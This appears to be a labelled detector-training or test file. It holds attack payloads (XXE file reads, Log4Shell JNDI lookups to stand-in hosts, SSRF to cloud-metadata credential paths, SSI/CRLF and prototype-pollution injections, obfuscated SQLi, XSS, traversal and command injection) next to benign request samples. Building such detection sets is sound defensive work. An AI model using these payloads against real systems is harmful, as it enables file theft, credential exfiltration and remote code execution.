<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE note [<!ELEMENT note ANY><!ENTITY h SYSTEM "file:///etc/hosts">]><note>&h;</note>
<!DOCTYPE order SYSTEM "http://bad.test/order.dtd"><order><id>4</id></order>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://bad.test/p.dtd"> %p;]><d/>
<!DOCTYPE m [<!ENTITY % a "<!ENTITY &#37; b SYSTEM 'http://bad.test/?k'>">%a;%b;]><m/>
<!DOCTYPE u [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><u>&s;</u>
<!DOCTYPE t [<!ENTITY e SYSTEM "expect://id">]><t>&e;</t>
<!DOCTYPE j [<!ENTITY z SYSTEM "jar:http://bad.test/k.zip!/m.txt">]><j>&z;</j>
<!DOCTYPE v [<!ENTITY n SYSTEM "netdoc:/etc/hosts">]><v>&n;</v>
<?xml version='1.0' standalone='no'?><!DOCTYPE svg [<!ENTITY s SYSTEM 'file:///etc/hostname'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&s;</text></svg>
<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/group"/></p>
<z xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"><xi:fallback>no</xi:fallback></xi:include></z>
<!DOCTYPE i [<!ENTITY t SYSTEM "file:///var/log/syslog">]><i>&t;</i>
<!DOCTYPE y [<!ATTLIST y a CDATA "1"><!ENTITY l SYSTEM "/etc/resolv.conf">]><y a="2">&l;</y>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('file:///etc/hosts')"/></xsl:template></xsl:stylesheet>
<!DOCTYPE e [<!ENTITY u SYSTEM "dev.dat" NDATA gif><!NOTATION gif SYSTEM "http://bad.test/g">]><e/>
<!DOCTYPE n [<!ENTITY % loc SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % expr 'q)><!ENTITY &#x25; k SYSTEM "file:///etc/hosts">'>%loc;]><n/>
:attack jndi tune 95
${jndi:ldap://k1.bad.test/a}
${jndi:rmi://k3.bad.test:1099/obj}
${jndi:iiop://10.4.5.6:900/x}
${jndi:corba://k6.bad.test/n}
${jNdI:lDaP://k8.bad.test/q}
${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://m1.bad.test/r}
${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://m3.bad.test/t}
${j${::-n}di:ldap://m5.bad.test/v}
${${env:NONE:-jn}di:dns://m7.bad.test}
${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://m9.bad.test/y}
${jn${lower:d}i:l${lower:d}ap://n2.bad.test/a}
${jndi:ldap://${env:USER}.n4.bad.test/c}
${jndi:dns://${hostName}.n6.bad.test/e}
${${lower:${lower:j}}ndi:ldap://n8.bad.test/g}
${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:rmi://p1.bad.test/i}
curl/8 ${jndi:ldap://p3.bad.test/k}
${jnd${upper:<U+131>}:ldap://p5.bad.test/m}
${url:UTF-8:http://p6.bad.test/n}
:attack jndi kept 95
${jndi:ldaps://k2.bad.test:1636/b}
${jndi:dns://k4.bad.test}
${jndi:nis://k5.bad.test/m}
${JNDI:LDAP://k7.bad.test/p}
${${lower:j}ndi:ldap://k9.bad.test/a}
${${upper:j}ndi:${upper:l}dap://m2.bad.test/s}
${${::-j}ndi:rmi://m4.bad.test/u}
${${env:QQ:-j}ndi${env:QQ:-:}${env:QQ:-l}dap${env:QQ:-:}//m6.bad.test/w}
${${sys:zz:-j}ndi:ldap://m8.bad.test/x}
${${k8s:k5:-j}ndi:ldap://n1.bad.test/z}
${jndi:ldap://127.0.0.1#n3.bad.test/b}
${jndi:ldap://${sys:java.version}.n5.bad.test/d}
${jndi:ldap:${::-/}/n7.bad.test/f}
${${a:-${b:-j}}ndi:ldap://n9.bad.test/h}
${${main:x:-j}ndi:${main:y:-ldap}://p2.bad.test/j}
Mozilla/5.0 (${${lower:J}ndi:ldap://p4.bad.test/l})
${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
${dns:address|p7.bad.test}
:attack ssrf tune 85
http://169.254.169.254/latest/meta-data/
http://metadata/computeMetadata/v1/
http://169.254.169.254/openstack/latest/meta_data.json
http://[::ffff:169.254.169.254]/
http://127.0.0.1:6379/
http://017700000001/
http://localhost:2375/containers/json
http://[0:0:0:0:0:ffff:127.0.0.1]/
http://127.0.0.1.nip.io/
http://127<U+3002>0<U+3002>0<U+3002>1/
ldap://127.0.0.1:389/%0astats
jar:http://127.0.0.1:8080/k.jar!/
:attack ssrf kept 85
http://169.254.169.254/latest/meta-data/iam/security-credentials/web
http://100.100.100.200/latest/meta-data/
http://[fd00:ec2::254]/latest/user-data
http://[::ffff:a9fe:a9fe]/latest/
http://127.1/admin
http://0177.0.0.01/x
http://LOCALHOST:8500/v1/agent/self
http://[::ffff:7f00:1]/k
http://10-0-0-5.sslip.io/
http://localhost%2ebad.test@127.0.0.1/
tftp://10.0.0.8:69/k
netdoc:///etc/hosts
:attack ssi-crlf tune 85
<!--#exec cmd="id" -->
<!--#include virtual="/etc/hosts" -->
<!--#config errmsg="k" --><!--#exec cmd="ls -l"-->
"><!--#exec cmd="uname"-->
<esi:include src="http://127.0.0.1/k" stylesheet="http://bad.test/s.xsl"/>
k%0aSet-Cookie:%20role=admin
%0d%0a%0d%0a<script>alert(2)</script>
%E5%98%8A%E5%98%8DSet-Cookie:%20z=1
k\r\nSet-Cookie: j=7
eve>%0d%0aRCPT TO:<y@bad.test>
INBOX"%0d%0aA7 LOGIN eve pw
key%0d%0aset k 0 60 3%0d%0aabc%0d%0a
:attack ssi-crlf kept 85
<!--#exec cgi="/cgi-bin/k.sh"-->
<!--#include file="conf.inc"-->
<!--#set var="q" value="7" --><!--#echo var="q"-->
<!--#flastmod virtual="index.html"-->
<esi:vars>$(HTTP_COOKIE)</esi:vars>
k%0d%0aSet-Cookie: sid=eve
x%0d%0aX-Injected: 3
z%u000d%u000aSet-Cookie: w=4
v%c4%8d%c4%8aSet-Cookie: o=6
eve%0d%0a.%0d%0aMAIL FROM:<x@bad.test>
eve%0d%0aDATA%0d%0aSubject: q%0d%0a%0d%0ahello%0d%0a.
k%0d%0aTransfer-Encoding: chunked%0d%0a
:attack prototype-pollution tune 85
{"__proto__":{"admin":true}}
{"a":{"__proto__":{"polluted":"y"}}}
{"constructor.prototype.role":"admin"}
{"\u005f\u005fproto\u005f\u005f":{"w":1}}
{"__proto__":{"client":1,"escapeFunction":"JSON.stringify;process.env"}}
{"__proto__":{"json spaces":8}}
__proto__[k][q]=2
constructor.prototype.y=5
x.constructor.prototype.hasOwnProperty=0
__proto__[transport_url]=//bad.test/k.js
constconstructorructor[protoprototypetype][w]=2
__defineGetter__[0]=k
:attack prototype-pollution kept 85
{"__proto__":{"role":"root"},"name":"k"}
{"constructor":{"prototype":{"isAdmin":1}}}
{"__proto__":[]}
{"__pro\u0074o__":{"q":3}}
{"__proto__":{"status":510}}
{"__proto__":{"argv0":"q","execArgv":["--eval=1"]}}
a[__proto__][b]=c
constructor[prototype][z]=7
?__proto__[src]=data:,alert(3)
__proto__[innerHTML]=<img src=u onerror=alert(2)>
['__proto__']['v']=4
Object.prototype.admin=1
:attack disguised tune 90
query	id=7%2520AND%25201%253D1
query	s=x%27%7C%7C%271%27%3D%271
query	name=ann'%20%7c%7cchr(65)%7c%7c'
form	id=%255c%2527%2520or%25203%253D3%2523
form	t=%257B%257B8*8%257D%257D
query	q=%3CsCr%00iPt%3Ealert(3)%3C/sCrIpT%3E
query	q=%5Cu003cimg%20src=w%20onerror=alert(2)%5Cu003e
query	f=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc%EF%BC%8Fissue
query	c=127.0.0.1%0Acat$%7BIFS%7D/etc/hosts
query	t=%7B%7B%0a6%09*%097%0a%7D%7D
query	a[%24%67t]=
query	p=s%27.%27y%27.%27stem(%22id%22)%3B
path	/cgi-bin/.%2e/.%2e/.%2e/bin/sh
path	/item/8/**/AND/**/2=2
path	/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/k.action
cookie	lang=%2e%2e%5c%2e%2e%5cboot.ini%00
cookie	filter=%7B%22%24g%74%22%3A%22%22%7D
header	Referer: http://shop.test/?id=4%27%2f*!50000union*%2fselect%201,2--
header	X-Cmd: $(w'h'oami)
json	{"q":"7%27%20or%209%3D9--%20"}
json	{"f":"..%252f..%252f..%252fetc%252fissue"}
json	{"u":{"\u0024ne":""}}
json	{"<svg/onload=\u0061lert(1)>":true}
multipart	-2%27%20union/**/all/**/select%205,6--
multipart	<U+FF17><U+FF07>  oR  <U+FF13><U+FF1D><U+FF13><U+FF0D><U+FF0D>
xml	<r><f>&#46;&#46;/&#46;&#46;/&#46;&#46;/etc/passwd</f></r>
:attack disguised kept 90
query	id=3%252527%252520OR%2525205%25253D5--%252520
query	s=x%27/**/%26%26/**/5/**/like/**/5%23
query	sort=id%60,(select*from(select(sleep(2)))t)--%20
form	c=%3Csvg%2Fonload%3D%26%2397%3Blert%287%29%3E
form	login%5B%24ne%5D=q&pw%5B%24%72egex%5D=%5Ea
query	q=%3Cimg%0Csrc=k%0Conerror%0A=%0Aalert(8)%3E
query	q=%22);top['al'%2b'ert'](4);//
query	f=..%00/..%00/..%00/etc/passwd%00.jpg
query	c=;%24(printf%20%27%5C151%5C144%27)
query	c=|pow%5Eershell%20-e%20ZABpAHIA
query	a%5B__proto__%5D%5Bk%5D=2
query	p=%3C%3F=%60id%60%3F%3E
path	/cgi-bin/.%%32%65/.%%32%65/etc/passwd
path	/item/5%2527%2520UNION%2520SELECT%25201,2--
path	/t/%7b%7b9*%279%27%7d%7d
cookie	theme=%3Cimg%2Fsrc%3Dk%20onerror%3Dalert%60%60%3E
cookie	k=-3%27%20UnIon%20aLL%20seLEct%203,4--%20
header	Referer: javas&#99;ript:alert(3)
header	X-File-Name: ..%c0%af..%c0%afetc%c0%afhosts
json	{"q":"k'\nOR\n'w'\n=\n'w"}
json	{"f":"\u002e\u002e\u002f\u002e\u002e\u002fetc\u002fpasswd"}
json	{"t":"\u007b\u007b7*8\u007d\u007d"}
json	{"k' OR/**/'z'='z":1}
multipart	6' oR/*k*/3/*k*/=/*k*/3#
multipart	<!--#ex%00ec cmd="id"-->
xml	<r><c><![CDATA[<]]>img src=x onerror=alert(5)<![CDATA[>]]></c></r>
:benign ordinary tune 2
query	q=women%27s+running+shoes+size+7+1%2F2
query	name=d%27Angelo&first=Maria
query	q=rock+%27n%27+roll+hits+of+the+%2750s+and+%2760s
query	q=union+square+or+times+square+hotels
query	q=is+5+%3E+3+and+2+%3C+4+true
query	filter[status]=open&filter[assignee]=me&include=author,comments.author&page[size]=25&page[number]=3
query	$filter=startswith(LastName,%27O%27%27Brien%27)%20or%20year(HireDate)%20eq%202019
query	query=query%20Hero($ep:Episode)%7Bhero(episode:$ep)%7Bname%20friends%7Bname%7D%7D%7D&variables=%7B%22ep%22:%22JEDI%22%7D
query	url=https%3A%2F%2Fwww.wikipedia.org%2Fwiki%2FCaf%C3%A9_(disambiguation)%23History
query	id=7f3b0e0a-5c1d-4c8f-9a55-0e2b1d6a9c42&v=1.14.2-rc.1
query	q=%D0%BC%D0%BE%D1%81%D0%BA%D0%B2%D0%B0+%D0%BF%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0+%D0%B7%D0%B0%D0%B2%D1%82%D1%80%D0%B0
query	q=%F0%9F%8E%82+birthday+cake+ideas+%F0%9F%8E%88
query	access_token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0ODIxMyIsIm5hbWUiOiJBLiBPJ0hhcmEiLCJpYXQiOjE3MTQ5ODk2MDB9.arnx6499M4j0-dWG9m6Z_VQIDfLERvDlhmiwnAihbdA
query	q=repo%3Arust-lang%2Frust+is%3Aissue+label%3A%22A-diagnostics%22+-author%3Aapp%2Fbot
query	color=%23ff8800&size=XL&qty=2&note=gift+wrap%2C+please!
query	v=20240506&_=1714989612345&callback=jQuery36004812_1714989612340
path	/wiki/O%27Reilly_Auto_Parts
path	/api/v2.1/users/7f3b0e0a-5c1d-4c8f-9a55-0e2b1d6a9c42/orders
path	/@types/node/v18/index.d.ts
path	/select/all/union-jack-flags/order-by-phone
path	/%E3%83%98%E3%83%AB%E3%83%97/%E3%82%88%E3%81%8F%E3%81%82%E3%82%8B%E8%B3%AA%E5%95%8F
path	/files/Annual%20Report%20(final)%20v2.0.pdf
cookie	_ga=GA1.2.1433215566.1714989600; _gid=GA1.2.998877665.1714989600; _gat=1
cookie	_fbp=fb.1.1714989600123.1098115397; _fbc=fb.1.1714989600123.IwAR2F4-dbP0l7Mn1IawQQGCINEz7PYXQvwjNwB_qa2ofrHyiLjcbCRxTDMgk
cookie	PHPSESSID=r2t5uvjq435r4q7ib3vtdjq120; lang=en-US
cookie	__utma=96992031.1729540934.1714989600.1714989600.1714989600.1; __utmz=96992031.1714989600.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)
cookie	user_name=Se%C3%A1n%20O%27Casey; last_seen=2024-05-06T08%3A30%3A00Z
cookie	recent=%5B%22drop%20leaf%20table%22%2C%22union%20suit%22%2C%22select%20comfort%20bed%22%5D
header:User-Agent	Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36
header:User-Agent	Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36
header:User-Agent	curl/8.5.0
header:User-Agent	okhttp/4.12.0
header:Referer	https://duckduckgo.com/?q=what%27s+the+difference+between+and+%26+or&t=ffab
header:Referer	https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2Fsale%3Fref%3Dfb%26id%3D12&h=AT0x-9Kz
header:Referer	https://accounts.example.com/o/oauth2/auth?client_id=1234-abc.apps.example.com&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+email&prompt=select_account
header:Referer	android-app://com.google.android.gm/
form	card_name=MR+R+O%27NEILL&exp=09%2F27&amount=%241%2C299.00&currency=USD
form	comment=he+said%3A+%22yes%22%3B+then+left+-+and+never+came+back+%3A%29
form	subject=Re%3A+Fwd%3A+Meeting+%40+5%3F&text=Works+for+me%21+5+%3E+3+and+2+%3C+4%2C+so+let%27s+say+five.%0D%0A--+%0D%0ATom%0D%0A%2B44+20+7946+0018
form	feedback=Price%27s+too+high%3A+10%25+off+would%27ve+been+nice%3B+otherwise+5+stars+*****
form	name=%C5%81ukasz+%C5%BB%C3%B3%C5%82%C4%87&miasto=Gda%C5%84sk&uwagi=Prosz%C4%99+dzwoni%C4%87+po+18%3A00%3B+domofon+nr+7.
form	question=What%27s+12+*+%283+%2B+4%29+-+6+%2F+2+%3D+%3F+Show+your+working.&answer=81
json	{"name":"Sin<U+E9>ad O'Connor","email":"sinead@example.ie","phone":"+353 1 555 0100","tags":["r&b","rock 'n' roll"]}
json	{"events":[{"t":"pageview","url":"https://www.example.com/?q=drop+table+reservations","ref":"","ts":1714989600123},{"t":"click","sel":"#nav > li:nth-child(2) a","ts":1714989601456}]}
json	{"id":"7f3b0e0a-5c1d-4c8f-9a55-0e2b1d6a9c42","created":"2024-05-06T08:30:00.000Z","price":{"amount":"1,299.00","currency":"EUR"}}
json	{"token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1Xzc3IiwiYXVkIjoiYXBwIiwiZXhwIjoxNzE3NTgxNjAwfQ.L1BSyf0VsZoYxYTQE2NWgZhhPww06EQJ73k4cJoVnsI","device":"iPhone14,5","locale":"en_GB"}
json	{"formula":"1+1=2","unit":"m/s^2","range":"-5..5","note":"x > 0 && x < 10"}
json	{"subject":"Minutes -- R&D sync","body":"Present: Al, Bo, Cy.\n\n1. Budget: $5,000 or less\n2. Union reps: select by Friday\n3. AOB"}
:benign ordinary kept 2
query	q=O%27Brien+plumbing+%26+heating%2C+Cork
query	q=C%2B%2B+%26+C%23+tutorial+for+beginners
query	q=1%2B1%3D2+proof+Principia+Mathematica
query	q=select+all+that+apply+survey+template
query	price[gte]=10&price[lte]=49.99&sort=-created
query	fields=id,name,updated_at&sort=-updated_at,+name&limit=100
query	$search=%22blue%20OR%20green%22&$skip=40
query	operationName=UserFeed&variables=%7B%22first%22%3A20%2C%22after%22%3A%22Y3Vyc29yOjIw%22%7D&extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22c8bc2586cdd87cd6f970fc4262c4bbc49165811788825fbc1ba3366bfde45413%22%7D%7D
query	utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=50%25+off+%E2%80%93+today+only
query	phone=%2B49%20(0)30%20901820&ext=12
query	q=%E6%9D%B1%E4%BA%AC%20%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3%20%E3%81%8A%E3%81%99%E3%81%99%E3%82%81
query	email=sean.o%27neill%2Boffers%40example.ie&token=f1d2d2f924e986ac86fdf7b36c94bcdf32beec15
query	sig=3q2%2B7wAAAAB%2FZm9vYmFyYmF6cXV4%2Bw%3D%3D&exp=1719999999&key=media%2F2024%2Fintro.mp4
query	tags[]=vegan&tags[]=gluten-free&tags[]=30+min+or+less&exclude[]=nuts
query	where=city%3D%22Paris%22&order=-score&keys=name,score
query	q=%22to+be+or+not+to+be%22+-hamlet+site%3Aexample.edu
path	/wiki/Rock_%27n%27_roll/Origins
path	/static/js/main.8f3c2a1b.chunk.js
path	/blog/2024/05/06/why-we-dropped-our-table-layouts
path	/maps/@48.8583701,2.2944813,17z/data=!3m1!4b1
path	/cities/saint-jean-d%27ang%C3%A9ly/hotels
path	/image/w_400,h_300,c_fill,q_auto:good/v1714989600/team/photo..small.jpg
cookie	_ga_9XQ4T2ZB1C=GS1.1.1714989600.3.1.1714990012.60.0.0; _ga=GA1.1.1433215566.1714989600
cookie	consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%2C%22ts%22%3A1714989600%2C%22v%22%3A%222.1%22%7D
cookie	session=.eJwlzjEOwzAIAMC_eO6AARvIZyLAoHZNmqnq3xup603XZB91rG27rk_sx7tssu6QYJpYwQUD.ZjiV4A.qQ3v0m-2Zz1kzY0Xf7m
cookie	XSRF-TOKEN=eyJpdiI6IkZ0bU1yK3ZQdz09IiwidmFsdWUiOiJxMDIifQ%3D%3D; laravel_session=eyJpdiI6Im5tQT0ifQ%3D%3D
cookie	prefs=font:14px|width:wide|cols:3; tz=America/New_York; cur=USD
cookie	connect.sid=s%3Aj4mKq9f0xP2e.7dX%2F2t0n%2BQm1bV3%2FzzT8; io=Zm9v-YmFyAAAB
header:User-Agent	Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15
header:User-Agent	Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
header:User-Agent	python-requests/2.31.0
header:User-Agent	Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
header:Referer	https://shop.example.com/search?q=levi%27s&price%5Bgte%5D=10&sort=-created
header:Referer	https://t.co/aB3dE5fG7h
header:Referer	http://intranet.example.net:8080/jira/issues/?jql=project%20%3D%20WEB%20AND%20status%20in%20(Open%2C%20%22In%20Progress%22)%20ORDER%20BY%20created%20DESC
header:Referer	https://yandex.ru/search/?text=%D0%BA%D1%83%D0%BF%D0%B8%D1%82%D1%8C+%D1%81%D1%82%D0%BE%D0%BB&lr=213
form	address1=14+St.+John%27s+Rd.+%28rear+entrance%29&address2=Apt+%234-B&city=Coeur+d%27Alene&state=ID&zip=83814
form	body=%23+Shopping+list%0D%0A%0D%0A*+milk%0D%0A*+**bread**+%282x%29%0D%0A*+eggs+%26+butter%0D%0A%0D%0A%3E+don%27t+forget+the+_cheese_%0D%0A%0D%0A%5Brecipe%5D%28https%3A%2F%2Fwww.example.com%2Fr%2F42%29
form	title=L%27%C3%A9t%C3%A9+%C3%A0+l%27%C3%AEle+d%27Yeu&price=85+%E2%82%AC%2Fnuit&dates=12%2F07%E2%80%9326%2F07
form	recipe=1%2F2+cup+sugar+%2B+3+tbsp.+butter+%3D+crumble.+Bake+%40+180%C2%B0C+%28350%C2%B0F%29+for+25-30+min.
form	dosage=%3C%3D+20+mg%2Fday+%28if+weight+%3E+60+kg%29&patient=O%27Connor%2C+Eileen
form	payload=%7B%22text%22%3A%22Build+%23412+passed%3A+%3Chttps%3A%2F%2Fci.example.com%2F412%7Cdetails%3E%22%7D
json	{"query":"query($id: ID!) { user(id: $id) { name posts(first: 5, orderBy: {field: CREATED_AT, direction: DESC}) { nodes { title } } } }","variables":{"id":"VXNlcjo0Mg=="}}
json	{"message":{"text":"<U+1F389> We did it! 100% of the goal & then some <3","reactions":{"<U+1F44D>":12,"<U+2764><U+FE0F>":7}}}
json	{"jsonrpc":"2.0","method":"search.select","params":["all that apply",{"limit":10}],"id":7}
json	{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ","name":"pixel.png"}
json	{"model":"general-v2","messages":[{"role":"system","content":"You're a helpful assistant; answer briefly."},{"role":"user","content":"What's the capital of C<U+F4>te d'Ivoire?"}],"temperature":0.7}
json	{"recipe":"Salt & pepper; olive oil (2 tbsp); 1 or 2 cloves of garlic","servings":"4-6"}
:benign hard tune 25
form	title=Slow+GROUP+BY&body=My+report+is+slow.+I+run+SELECT+c.name%2C+COUNT%28*%29+FROM+customers+c+JOIN+orders+o+ON+o.customer_id+%3D+c.id+WHERE+o.created_at+%3E%3D+%272024-01-01%27+GROUP+BY+c.name+ORDER+BY+2+DESC%3B+and+it+takes+40+s.+Would+an+index+help%3F
json	{"comment":"INSERT INTO tags (name) VALUES ('rock ''n'' roll'), ('r&b') ON CONFLICT DO NOTHING; -- works on Postgres only"}
json	{"q":"how do I list the five biggest files?","a":"du -ah . | sort -rh | head -n 5; add 2>/dev/null if you see permission errors"}
json	{"answer":"`kill -9 $(pgrep -f myserver)` is rude; try `kill -TERM` first, wait, and look at `ps aux | grep myserver`.","accepted":true}
json	{"comment":"const wait = ms => new Promise(r => setTimeout(r, ms));\nawait wait(200); console.log(`done in ${Date.now() - t0} ms`);"}
json	{"post":"Put <link rel=\"stylesheet\" href=\"/css/site.css\"> in the <head> and <script src=\"/js/app.js\" defer></script> right after it; then it won't block rendering."}
json	{"body":"def mean(xs):\n    return sum(xs) / len(xs) if xs else 0.0\n\nprint(mean([1, 2, 3]))  # -> 2.0\n\nimport os; print(os.environ.get('HOME'))"}
json	{"snippet":"@app.route('/hello/<name>')\ndef hello(name):\n    return render_template('hello.html', name=name)","desc":"template has {{ name|title }} and {% for i in items %}{{ i.price }}{% endfor %}"}
json	{"content":"<table border=\"1\" cellpadding=\"4\"><thead><tr><th>Size</th><th>Price</th></tr></thead><tbody><tr><td>S</td><td>&lt; 10 <U+20AC></td></tr><tr><td>L</td><td>20 <U+20AC></td></tr></tbody></table>","format":"full_html"}
form	content=%3C%21--+wp%3Aparagraph+%7B%22align%22%3A%22center%22%7D+--%3E%0D%0A%3Cp+class%3D%22has-text-align-center%22%3EWelcome+to+our+new+site%21%3C%2Fp%3E%0D%0A%3C%21--+%2Fwp%3Aparagraph+--%3E%0D%0A%0D%0A%3C%21--+wp%3Aimage+%7B%22id%22%3A12%2C%22sizeSlug%22%3A%22large%22%7D+--%3E%0D%0A%3Cfigure+class%3D%22wp-block-image+size-large%22%3E%3Cimg+src%3D%22https%3A%2F%2Fwww.example.com%2Fwp-content%2Fuploads%2Fa.jpg%22+alt%3D%22%22+class%3D%22wp-image-12%22%2F%3E%3C%2Ffigure%3E%0D%0A%3C%21--+%2Fwp%3Aimage+--%3E
form	description=%3Cp%3EJoin+our+%3Ca+href%3D%22mailto%3Aevents%40example.org%3Fsubject%3DOpen%2520day%22%3Eopen+day%3C%2Fa%3E+or+%3Ca+href%3D%22tel%3A%2B442079460018%22%3Ephone+us%3C%2Fa%3E.%3C%2Fp%3E%3Col+start%3D%223%22%3E%3Cli%3EBring+a+friend%3C%2Fli%3E%3C%2Fol%3E
form	html=%3Ccenter%3E%3Cfont+face%3D%22Arial%22+size%3D%222%22%3EIf+you+can%27t+read+this+mail%2C+%3Ca+href%3D%22https%3A%2F%2Fmail.example.com%2Fview%3Fid%3D%25%25ID%25%25%22%3Eview+it+online%3C%2Fa%3E.%3C%2Ffont%3E%3C%2Fcenter%3E%3Cimg+src%3D%22https%3A%2F%2Fmail.example.com%2Fo.gif%3Fm%3D42%22+width%3D%221%22+height%3D%221%22%3E
form	username=mkeane&password=Xuaryu%2F%2FpepgXX%3B%27P5eM%3B%5C%5C
form	username=anna_l&password=R%2FH%5C9O%5El.-%29%3D%3Bo%23%3D8G%24%28%5DT2%3B
form	username=c.duval&password=ett%21r%222n%7D%28%3D%40%7CBLI%3FU%3DH.o
form	pattern=%5E%28%3F%3D.*%5BA-Z%5D%29%28%3F%3D.*%5Cd%29%28%3F%3D.*%5B%5E%5Cw%5Cs%5D%29.%7B8%2C%7D%24&flags=u
form	abstract=We+prove+that+%24%5Csum_%7Bn%3D1%7D%5E%7B%5Cinfty%7D+%5Cfrac%7B1%7D%7Bn%5E2%7D+%3D+%5Cfrac%7B%5Cpi%5E2%7D%7B6%7D%24+and%2C+for+%24x%3C0%24+or+%24y%3E1%24%2C+%24%7Cf%28x%29%7C+%5Cleq+%5Cleft%28%5Cfrac%7Ba%7D%7Bb%7D%5Cright%29%5E%7Bk%7D%24.
json	{"formula":"=IF(AND(A1>=10,B1<>\"n/a\"),SUM(C1:C9)*0.19,VLOOKUP(D1;Rates!$A$1:$B$20;2;FALSE))"}
json	{"proof":"<U+2200><U+3B5>>0 <U+2203><U+3B4>>0: |x<U+2212>a|<<U+3B4> <U+21D2> |f(x)<U+2212>f(a)|<<U+3B5>; (A <U+222A> B)' = A' <U+2229> B'; 1 = 0! and 1 = 1!"}
json	{"log":"ERROR 1064 (42000) at line 3: You have an error in your SQL syntax; check the manual near 'FORM users' at line 1","host":"db-2"}
json	{"customCss":"@import url('https://fonts.example.com/css?family=Lora:400,700'); body{font:16px/1.5 'Lora',serif} .btn:hover{transform:scale(1.05);filter:drop-shadow(0 0 4px #000)}"}
json	{"feed":"<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\" xml:lang=\"en\"><title type=\"html\"><![CDATA[Bits & <b>Bobs</b>]]></title><link rel=\"self\" href=\"https://example.org/feed\"/></feed>"}
json	{"ldap":{"userFilter":"(&(objectCategory=user)(sAMAccountName={0})(!(userAccountControl:1.2.840.113556.1.4.803:=2)))","groupFilter":"(member={dn})"}}
json	{"schedule":"0 3 * * 1-5","command":"cd /srv/app && ./bin/console cleanup --older-than=30d | logger -t cleanup"}
:benign hard kept 25
json	{"post":{"text":"Use a parameter instead of gluing strings:\n```sql\nSELECT id, email FROM users WHERE email = $1 AND deleted_at IS NULL LIMIT 1;\n```","lang":"sql"}}
form	title=UNION+ALL+gives+duplicates&body=To+combine+the+archive+with+the+live+table+I+wrote%0D%0A%0D%0ASELECT+id%2C+total+FROM+orders%0D%0AUNION+ALL%0D%0ASELECT+id%2C+total+FROM+orders_2019%0D%0A%0D%0Abut+the+totals+come+out+twice+for+some+ids.+What%27s+wrong%3F
form	body=Window+functions+are+the+answer+here%3A+ROW_NUMBER%28%29+OVER+%28PARTITION+BY+dept+ORDER+BY+salary+DESC%29+AS+rn%2C+then+keep+rn+%3D+1+or+rn+%3D+2+in+the+outer+query.
form	body=Add+this+to+%7E%2F.bashrc%3A%0D%0A%0D%0Aexport+PATH%3D%22%24HOME%2F.local%2Fbin%3A%24PATH%22%0D%0Aalias+ll%3D%27ls+-lah%27%0D%0A%5B+-f+%7E%2F.bash_aliases+%5D+%26%26+.+%7E%2F.bash_aliases%0D%0A%0D%0AThen+open+a+new+shell.
form	body=In+JavaScript+%600.1+%2B+0.2+%3D%3D%3D+0.3%60+is+false%3B+use+Math.abs%28a+-+b%29+%3C+Number.EPSILON.+Also+document.querySelector%28%27%23total%27%29.textContent+%3D+sum.toFixed%282%29%3B+for+display.
form	body=You+forgot+the+closing+tag%3A+%3Cul%3E%3Cli%3EOne%3C%2Fli%3E%3Cli%3ETwo%3C%2Ful%3E+should+be+%3Cul%3E%3Cli%3EOne%3C%2Fli%3E%3Cli%3ETwo%3C%2Fli%3E%3C%2Ful%3E.+Browsers+repair+it%2C+validators+complain.
form	body=PHP+question%3A+foreach+%28%24rows+as+%24i+%3D%3E+%24row%29+%7B+echo+%24row%5B%27title%27%5D+.+%22%3Cbr%3E%5Cn%22%3B+%7D+prints+one+empty+line+at+the+end+-+why%3F
form	body=Rust+won%27t+let+me%3A+let+r%3B+%7B+let+x+%3D+5%3B+r+%3D+%26x%3B+%7D+println%21%28%22%7B%7D%22%2C+r%29%3B+--+error%5BE0597%5D%3A+%60x%60+does+not+live+long+enough
form	body_html=%3Cp+style%3D%22text-align%3A+center%3B%22%3E%3Cimg+src%3D%22%2Fuploads%2F2024%2F05%2Fharbour.jpg%22+alt%3D%22The+harbour+at+dusk%22+width%3D%22800%22+height%3D%22533%22+%2F%3E%3C%2Fp%3E%0D%0A%3Cp%3EPhoto%3A+J.+O%27Dowd%3C%2Fp%3E
